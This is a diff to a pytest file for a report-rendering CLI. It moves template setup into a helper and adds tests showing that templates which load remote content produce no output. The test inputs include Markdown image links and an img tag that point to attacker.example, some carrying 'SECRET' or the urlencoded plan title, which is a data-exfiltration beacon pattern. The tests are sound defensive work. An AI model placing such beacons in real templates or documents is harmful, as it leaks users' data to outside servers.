@@ -9,7 +9,7 @@ from pathlib import Path
 import pytest
 from typer.testing import CliRunner
 
-from conftest import BUNDLED_PLAN, FIXTURES, copy_plan
+from conftest import BUNDLED_PLAN, FIXTURES, copy_plan, plan_with_template
 from vawg_cli.cli import app
 from vawg_cli.render.html_safety import reaching_out, where_it_leads
 
@@ -89,10 +89,8 @@ def test_vawgs_own_html_paper_fetches_nothing(plan: Path, tmp_path: Path) -> Non
     ],
 )
 def test_a_plan_template_that_reaches_out_makes_no_paper(extra: str, tmp_path: Path) -> None:
-    plan = copy_plan(FIXTURES / "board", tmp_path / "plan")
-    (plan / "templates").mkdir()
-    (plan / "templates" / "report.html.j2").write_text(
-        '{% include "shipped/report.html.j2" %}' + extra + "\n", encoding="utf-8"
+    plan = plan_with_template(
+        FIXTURES / "board", tmp_path / "plan", "report.html.j2", '{% include "shipped/report.html.j2" %}' + extra + "\n"
     )
     out = tmp_path / "paper.html"
     result = CliRunner().invoke(
@@ -130,15 +128,14 @@ def test_where_an_address_leads_leaves_out_what_it_carries() -> None:
     [
         "![logo](https://attacker.example/p.png?t={{ report.plan_title|urlencode }}SECRET)",
         "![logo]( <https://attacker.example/p.png> )",
+        "![a [nested] alt](https://attacker.example/SECRET.png)",  # brackets in pairs within the text
         "![logo][l]\n\n[l]: https://attacker.example/SECRET.png",
         '<img src="https://attacker.example/SECRET.png">',
     ],
 )
 def test_a_markdown_template_that_shows_an_image_from_a_server_makes_no_paper(extra: str, tmp_path: Path) -> None:
-    plan = copy_plan(FIXTURES / "board", tmp_path / "plan")
-    (plan / "templates").mkdir()
-    (plan / "templates" / "report.md.j2").write_text(
-        '{% include "shipped/report.md.j2" %}\n' + extra + "\n", encoding="utf-8"
+    plan = plan_with_template(
+        FIXTURES / "board", tmp_path / "plan", "report.md.j2", '{% include "shipped/report.md.j2" %}\n' + extra + "\n"
     )
     result = CliRunner().invoke(
         app, ["report", "--plan", str(plan), "--quarter", "2025-Q3", "--as-of", "2026-01-15", "--format", "md"]
